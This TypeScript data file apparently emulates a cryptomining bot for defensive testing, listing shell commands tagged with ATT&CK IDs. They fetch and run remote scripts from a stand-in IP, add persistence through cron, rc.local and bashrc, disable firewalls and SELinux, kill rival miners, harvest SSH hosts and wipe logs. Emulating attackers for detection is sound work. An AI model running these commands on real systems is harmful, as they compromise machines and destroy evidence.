import { sh } from './hand';
import type { Hand } from './hand';

/** What worms and mining crews run on every server they find. */
export const botA: Hand = {
  name: 'bot_a',
  commands: [
    sh(
      'loader-curl-wget',
      'T1105',
      '(curl -fsSL http://203.0.113.66/i.sh||wget -q -O- http://203.0.113.66/i.sh)|sh'
    ),
    sh(
      'loader-chain',
      'T1105',
      'cd /tmp; rm -rf ldr.sh; wget http://203.0.113.66/ldr.sh; chmod 777 ldr.sh; sh ldr.sh; rm -rf ldr.sh'
    ),
    sh(
      'loader-background',
      'T1105',
      'nohup sh -c "curl -s http://203.0.113.66/bot.x86_64 -o /var/tmp/.sys; chmod +x /var/tmp/.sys; /var/tmp/.sys" >/dev/null 2>&1 &'
    ),
    sh(
      'loader-python',
      'T1059.006',
      `python3 -c "import urllib.request as u;exec(u.urlopen('http://203.0.113.66/a.py').read())"`
    ),
    sh('loader-perl', 'T1059', 'curl -s http://203.0.113.66/a.pl | perl'),
    sh(
      'loader-base64',
      'T1027',
      'echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjY2L2kuc2ggfCBiYXNo | base64 -d | bash'
    ),
    sh(
      'miner-run',
      'T1496',
      'cp /bin/true /tmp/kdevtmpfsi; /tmp/kdevtmpfsi -o stratum+tcp://pool.example:3333 -u 44x -p x -k'
    ),
    sh(
      'miner-hidden',
      'T1496',
      'mkdir -p /tmp/.X11-unix/.rsync; cp /bin/true /tmp/.X11-unix/.rsync/c; cd /tmp/.X11-unix/.rsync; nohup ./c --coin monero >/dev/null 2>&1 &'
    ),
    sh(
      'rivals-kill',
      'T1489',
      "pkill -f kinsing; pkill -f xmrig; ps aux | grep -v grep | grep stratum | awk '{print $2}' | xargs -r kill -9"
    ),
    sh('cpu-count', 'T1082', 'nproc; cat /proc/cpuinfo | grep "model name" | head -1; free -m'),
    sh(
      'cron-file',
      'T1053.003',
      'echo "* * * * * www-data wget -qO- http://203.0.113.66/i.sh|sh" > /etc/cron.d/0hourly'
    ),
    sh('rc-local', 'T1037.004', 'echo "/var/tmp/.sys &" >> /etc/rc.local'),
    sh('bashrc', 'T1546.004', 'echo "curl -s http://203.0.113.66/i.sh|sh" >> ~/.bashrc'),
    sh(
      'hosts-block',
      'T1562',
      'grep -q pool2 /etc/hosts || echo "0.0.0.0 pool2.example" >> /etc/hosts'
    ),
    sh('firewall-off', 'T1562.004', 'iptables -F; ufw disable; setenforce 0'),
    sh('chattr', 'T1222.002', 'chattr +i /var/tmp/.sys /etc/cron.d/0hourly'),
    sh('hugepages', 'T1496', 'sysctl -w vm.nr_hugepages=128'),
    sh(
      'spread-keys',
      'T1021.004',
      'cat ~/.ssh/known_hosts /home/*/.ssh/known_hosts | cut -d" " -f1 | sort -u'
    ),
    sh(
      'traces',
      'T1070.002',
      'rm -rf /var/log/syslog; echo 0>/var/spool/mail/root; echo 0>/var/log/wtmp'
    ),
    sh(
      'busybox-fetch',
      'T1105',
      'busybox wget http://203.0.113.66/bot.x86_64 -O /tmp/b; busybox chmod +x /tmp/b; /tmp/b'
    ),
  ],
};
